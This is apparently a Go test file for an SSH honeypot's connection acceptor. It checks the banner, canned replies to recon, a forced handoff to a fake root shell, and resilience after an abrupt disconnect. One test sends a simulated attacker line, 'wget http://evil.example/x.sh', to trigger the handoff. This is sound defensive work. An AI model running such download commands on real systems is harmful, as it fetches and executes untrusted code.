package acceptor_test

import (
	"bufio"
	"context"
	"net"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tripwire/honeypot/internal/acceptor"
	"github.com/tripwire/honeypot/internal/classify"
	"github.com/tripwire/honeypot/internal/session"
	"github.com/tripwire/honeypot/internal/store"
)

// freeAddr reserves an ephemeral port by briefly binding and releasing it;
// the acceptor under test then binds the same address in its own Run call.
func freeAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("reserve address: %v", err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return addr
}

func newTestAcceptor(t *testing.T) (*acceptor.Acceptor, string) {
	t.Helper()

	root := t.TempDir()
	evidence := store.New()
	mgr, err := session.New(filepath.Join(root, "sessions.db"), root, "test-instance", evidence)
	if err != nil {
		t.Fatalf("session.New: %v", err)
	}
	t.Cleanup(func() { mgr.ShutdownIndex() })

	classifier, err := classify.New("")
	if err != nil {
		t.Fatalf("classify.New: %v", err)
	}

	addr := freeAddr(t)
	a := acceptor.New(acceptor.Config{
		Addr:              addr,
		ReadHeartbeat:     50 * time.Millisecond,
		HardTimeout:       time.Minute,
		InactivityTimeout: 5 * time.Second,
	}, mgr, evidence, classifier, nil)

	ctx, cancel := context.WithCancel(context.Background())
	go a.Run(ctx)
	t.Cleanup(func() {
		a.Shutdown()
		cancel()
	})

	waitUntilListening(t, addr)

	return a, addr
}

// waitUntilListening polls addr with short dial attempts until one
// succeeds or the deadline passes, avoiding a fixed sleep racing Run's
// net.Listen call.
func waitUntilListening(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		conn, err := net.DialTimeout("tcp", addr, 50*time.Millisecond)
		if err == nil {
			conn.Close()
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("acceptor never started listening on %s", addr)
}

func dial(t *testing.T, addr string) net.Conn {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		t.Fatalf("dial %s: %v", addr, err)
	}
	return conn
}

// TestReconScenario exercises S1: a low-signal recon session gets a canned
// reply and never sees a HIGH_ENGAGEMENT handoff.
func TestReconScenario(t *testing.T) {
	_, addr := newTestAcceptor(t)

	conn := dial(t, addr)
	defer conn.Close()

	reader := bufio.NewReader(conn)
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	banner, err := reader.ReadString('\n')
	if err != nil {
		t.Fatalf("read banner: %v", err)
	}
	if !strings.Contains(banner, "SSH-2.0") {
		t.Errorf("banner = %q", banner)
	}

	conn.SetWriteDeadline(time.Now().Add(time.Second))
	conn.Write([]byte("ls\n"))

	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		t.Fatalf("read reply: %v", err)
	}
	if strings.Contains(string(buf[:n]), "fakehost") {
		t.Error("recon-only session should not have reached the fake shell prompt")
	}
}

// TestDownloadForcesHandoff exercises S2/S3: a wget line forces HIGH
// engagement regardless of classifier confidence, and the fake shell
// prompt follows immediately.
func TestDownloadForcesHandoff(t *testing.T) {
	_, addr := newTestAcceptor(t)

	conn := dial(t, addr)
	defer conn.Close()

	reader := bufio.NewReader(conn)
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	reader.ReadString('\n') // banner

	conn.SetWriteDeadline(time.Now().Add(time.Second))
	conn.Write([]byte("wget http://evil.example/x.sh\n"))

	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	welcome, err := reader.ReadString('\n')
	if err != nil {
		t.Fatalf("read welcome: %v", err)
	}
	if !strings.Contains(welcome, "Welcome to Ubuntu") {
		t.Errorf("expected fake-shell welcome after forced handoff, got %q", welcome)
	}

	promptBuf := make([]byte, len("root@fakehost:~# "))
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	if _, err := readFull(reader, promptBuf); err != nil {
		t.Fatalf("read prompt: %v", err)
	}
	if string(promptBuf) != "root@fakehost:~# " {
		t.Errorf("prompt = %q", promptBuf)
	}
}

func readFull(r *bufio.Reader, buf []byte) (int, error) {
	total := 0
	for total < len(buf) {
		n, err := r.Read(buf[total:])
		total += n
		if err != nil {
			return total, err
		}
	}
	return total, nil
}

// TestHandlerPanicDoesNotStopAcceptor exercises the resilience property: a
// connection whose classifier path panics must not prevent the acceptor
// from serving later connections.
func TestHandlerPanicDoesNotStopAcceptor(t *testing.T) {
	root := t.TempDir()
	evidence := store.New()
	mgr, err := session.New(filepath.Join(root, "sessions.db"), root, "test-instance", evidence)
	if err != nil {
		t.Fatalf("session.New: %v", err)
	}
	defer mgr.ShutdownIndex()

	classifier, err := classify.New("")
	if err != nil {
		t.Fatalf("classify.New: %v", err)
	}

	addr := freeAddr(t)

	a := acceptor.New(acceptor.Config{
		Addr:              addr,
		ReadHeartbeat:     50 * time.Millisecond,
		HardTimeout:       time.Minute,
		InactivityTimeout: 5 * time.Second,
	}, mgr, evidence, classifier, nil)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go a.Run(ctx)
	waitUntilListening(t, addr)

	// First connection: abrupt reset before any data, simulating a
	// mid-handler failure path (e.g. a read error other than timeout/EOF).
	c1, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		t.Fatalf("dial 1: %v", err)
	}
	if tcp, ok := c1.(*net.TCPConn); ok {
		tcp.SetLinger(0)
	}
	c1.Close()

	time.Sleep(50 * time.Millisecond)

	// Second connection must still be served normally.
	c2 := dial(t, addr)
	defer c2.Close()

	c2.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 64)
	n, err := c2.Read(buf)
	if err != nil {
		t.Fatalf("acceptor did not serve second connection after first's abrupt close: %v", err)
	}
	if !strings.Contains(string(buf[:n]), "SSH-2.0") {
		t.Errorf("banner = %q", buf[:n])
	}
}
